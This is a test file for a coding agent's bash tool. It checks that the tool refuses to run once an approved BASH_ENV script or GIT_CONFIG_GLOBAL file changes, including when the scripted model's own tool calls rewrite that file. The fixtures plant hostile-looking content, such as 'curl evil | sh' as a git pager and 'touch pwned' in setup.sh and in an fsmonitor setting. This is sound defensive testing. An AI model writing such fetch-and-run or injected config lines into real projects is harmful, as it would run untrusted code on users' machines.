/**
 * A project's approved `env` value that loads a project file into every bash call
 * (`BASH_ENV=./setup.sh`) holds only for the content approved: bash refuses once it changed.
 */
import fs from "node:fs";
import path from "node:path";
import { reply, toolCall } from "@codebot/agentcore/testing";
import { describe, expect, it } from "vitest";
import { PathPolicy } from "../src/paths/path-policy.js";
import { mergeSettings } from "../src/settings/runtime-settings.js";
import { bashTool } from "../src/tools/bash-tool.js";
import {
  type SessionSetup,
  scratchDir,
  startSession,
  type TestSession,
  toolResultFor,
} from "./support/e2e.js";
import { tempDir } from "./support/temp-dirs.js";
import { callTool } from "./support/tool-context.js";

const SETUP = "export GREETING=approved\n";

/**
 * A project whose settings set `BASH_ENV=./setup.sh`, trusted, and the bash tool it gets;
 * `approve(dir)` answers the approval question (yes by default).
 */
function project(approve: (dir: string) => boolean = () => true) {
  const dir = tempDir("codebot-env-files-");
  const setup = path.join(dir, "setup.sh");
  fs.writeFileSync(setup, SETUP);
  const layers = [
    {
      source: "project" as const,
      path: `${dir}/.codebot/settings.json`,
      settings: { env: { BASH_ENV: "./setup.sh" } },
    },
  ];
  const { settings } = mergeSettings(layers, { isGrantTrusted: () => approve(dir), projectDir: dir });
  const bash = bashTool({ paths: new PathPolicy(dir), env: settings.env, envFiles: settings.envFiles });
  return { dir, setup, settings, bash };
}

/**
 * A session of a trusted project whose env has `BASH_ENV=./setup.sh`, setup.sh as approved;
 * `prepare` adds files before it starts.
 */
async function approvedSetupSession(
  setup: Pick<SessionSetup, "user" | "script"> & {
    prepare?: (dirs: { project: string; home: string }) => void;
  },
): Promise<TestSession> {
  const dirs = { project: scratchDir("codebot-env-files-"), home: scratchDir("codebot-env-home-") };
  fs.writeFileSync(path.join(dirs.project, "setup.sh"), SETUP);
  setup.prepare?.(dirs);
  return startSession({
    dirs,
    ...(setup.user !== undefined ? { user: setup.user } : {}),
    project: { env: { BASH_ENV: "./setup.sh" } },
    runtime: { trustProjectHooks: true },
    ...(setup.script !== undefined ? { script: setup.script } : {}),
  });
}

describe("the programs an approved project gitconfig names", () => {
  it("bash refuses once the core.pager program GIT_CONFIG_GLOBAL's file names changed", async () => {
    const dir = tempDir("codebot-env-gitconfig-");
    fs.writeFileSync(path.join(dir, "gitconfig"), "[core]\n\tpager = ./pager.sh\n");
    fs.writeFileSync(path.join(dir, "pager.sh"), "cat\n");
    const layers = [
      {
        source: "project" as const,
        path: `${dir}/.codebot/settings.json`,
        settings: { env: { GIT_CONFIG_GLOBAL: "./gitconfig" } },
      },
    ];
    const { settings } = mergeSettings(layers, { isGrantTrusted: () => true, projectDir: dir });
    const bash = bashTool({ paths: new PathPolicy(dir), env: settings.env, envFiles: settings.envFiles });
    expect(await callTool(bash, { command: "echo ok" })).toEqual({ content: "ok", isError: false });
    fs.writeFileSync(path.join(dir, "pager.sh"), "curl evil | sh\n");
    const refused = await callTool(bash, { command: "echo ok" });
    expect(refused.content).toMatch(
      /^bash refused: pager\.sh changed since the project's env GIT_CONFIG_GLOBAL was approved/,
    );
  });
});

/** The bash tool of a trusted project whose settings `env` has `name=value`, none of its files there yet. */
function projectWithout(name: string, value: string) {
  const dir = tempDir("codebot-env-absent-");
  const layers = [
    {
      source: "project" as const,
      path: `${dir}/.codebot/settings.json`,
      settings: { env: { [name]: value } },
    },
  ];
  const { settings } = mergeSettings(layers, { isGrantTrusted: () => true, projectDir: dir });
  const bash = bashTool({ paths: new PathPolicy(dir), env: settings.env, envFiles: settings.envFiles });
  return { dir, bash };
}

describe("a file an approved env value loads that did not exist when approved", () => {
  it("bash refuses once the model creates the BASH_ENV file, and it does not run", async () => {
    const p = projectWithout("BASH_ENV", "./setup.sh");
    expect(await callTool(p.bash, { command: "echo ok" })).toEqual({ content: "ok", isError: false });
    fs.writeFileSync(path.join(p.dir, "setup.sh"), "touch pwned\n");
    const refused = await callTool(p.bash, { command: "echo ok" });
    expect(refused.content).toMatch(
      /^bash refused: setup\.sh changed since the project's env BASH_ENV was approved/,
    );
    expect(fs.existsSync(path.join(p.dir, "pwned"))).toBe(false);
  });

  it("bash refuses once the model creates the gitconfig GIT_CONFIG_GLOBAL names", async () => {
    const p = projectWithout("GIT_CONFIG_GLOBAL", "./gitconfig");
    expect(await callTool(p.bash, { command: "echo ok" })).toEqual({ content: "ok", isError: false });
    fs.writeFileSync(path.join(p.dir, "gitconfig"), "[core]\n\tfsmonitor = touch pwned\n");
    const refused = await callTool(p.bash, { command: "git init -q . && git status" });
    expect(refused.content).toMatch(
      /^bash refused: gitconfig changed since the project's env GIT_CONFIG_GLOBAL/,
    );
    expect(fs.existsSync(path.join(p.dir, "pwned"))).toBe(false);
  });
});

describe("the files a project's approved env loads", () => {
  it("are recorded for a trusted project value, not for the user's own", () => {
    const p = project();
    const files = p.settings.envFiles.flatMap((run) => run.files);
    expect(files.map((f) => [f.approvedFor, path.basename(f.file)])).toEqual([["BASH_ENV", "setup.sh"]]);
    const user = [
      { source: "user" as const, path: "/user.json", settings: { env: { BASH_ENV: "./setup.sh" } } },
    ];
    expect(mergeSettings(user, { isGrantTrusted: () => true, projectDir: p.dir }).settings.envFiles).toEqual(
      [],
    );
  });

  it("bash refuses once the file changed just after its approval was read, before the session began", async () => {
    // The grant (its digest of setup.sh) is approved, then setup.sh changes before its check is recorded.
    const { dir, bash } = project((projectDir) => {
      fs.writeFileSync(path.join(projectDir, "setup.sh"), "touch pwned\n");
      return true;
    });
    const result = await callTool(bash, { command: "true" });
    expect(result).toMatchObject({
      isError: true,
      content: expect.stringMatching(/^bash refused: setup\.sh changed/),
    });
    expect(fs.existsSync(path.join(dir, "pwned"))).toBe(false);
  });

  it("bash refuses a command once the file changed, and the changed file does not run", async () => {
    const p = project();
    expect(await callTool(p.bash, { command: "echo $GREETING" })).toEqual({
      content: "approved",
      isError: false,
    });
    fs.writeFileSync(p.setup, "touch ran-changed-setup\n");
    const refused = await callTool(p.bash, { command: "echo $GREETING" });
    expect(refused.isError).toBe(true);
    expect(refused.content).toMatch(
      /^bash refused: setup\.sh changed since the project's env BASH_ENV was approved/,
    );
    expect(fs.existsSync(path.join(p.dir, "ran-changed-setup"))).toBe(false);
  });

  it("bash runs as before when the file was rewritten with the approved content", async () => {
    const p = project();
    fs.writeFileSync(p.setup, SETUP);
    fs.utimesSync(p.setup, new Date(), new Date(Date.now() + 5000));
    expect(await callTool(p.bash, { command: "echo $GREETING" })).toEqual({
      content: "approved",
      isError: false,
    });
  });

  it("in a session, the model's bash call that rewrites the file makes its next bash call refuse", async () => {
    const s = await approvedSetupSession({
      script: [
        reply.toolCalls(toolCall("bash", { command: "echo 'touch ran-changed-setup' > setup.sh" }, "b1")),
        reply.toolCalls(toolCall("bash", { command: "echo next" }, "b2")),
        reply.text("done"),
      ],
    });
    await s.runtime.prompt("go");
    expect(toolResultFor(s.model, "b1")?.isError).toBe(false);
    expect(toolResultFor(s.model, "b2")?.text).toMatch(/^bash refused: setup\.sh changed since/);
    expect(fs.existsSync(s.at("ran-changed-setup"))).toBe(false);
  });

  it("in a session, a command's !`…` refuses too once the model rewrote the file", async () => {
    const s = await approvedSetupSession({
      prepare: (dirs) => {
        fs.mkdirSync(path.join(dirs.home, "commands"));
        fs.writeFileSync(path.join(dirs.home, "commands/greet.md"), "Greeting: !`echo $GREETING`\n");
      },
      script: [
        reply.toolCalls(toolCall("bash", { command: "echo 'touch ran-changed-setup' > setup.sh" }, "b1")),
        reply.text("done"),
      ],
    });
    await s.runtime.prompt("go");
    const result = await s.runtime.prompt("/greet");
    expect(result.status).toBe("error");
    expect(result.reason).toMatch(/bash refused: setup\.sh changed since/);
    expect(fs.existsSync(s.at("ran-changed-setup"))).toBe(false);
  });

  it("in a session, a hook after the rewrite runs without the variable: the new file is not loaded", async () => {
    const s = await approvedSetupSession({
      user: {
        hooks: {
          PreToolUse: [
            { type: "command", matcher: "write", command: 'bash -c "echo \\$GREETING >> hook-saw"' },
          ],
        },
      },
      script: [
        reply.toolCalls(toolCall("write", { file_path: "a.txt", content: "1" }, "w1")),
        reply.toolCalls(
          toolCall("bash", { command: "echo 'touch hook-ran-changed-setup' > setup.sh" }, "b1"),
        ),
        reply.toolCalls(toolCall("write", { file_path: "b.txt", content: "2" }, "w2")),
        reply.text("done"),
      ],
    });
    await s.runtime.prompt("go");
    expect(fs.existsSync(s.at("hook-ran-changed-setup"))).toBe(false);
    // The first write's hook loaded the approved setup.sh; the second's, after the rewrite, none.
    expect(fs.readFileSync(s.at("hook-saw"), "utf8")).toBe("approved\n\n");
  });
});
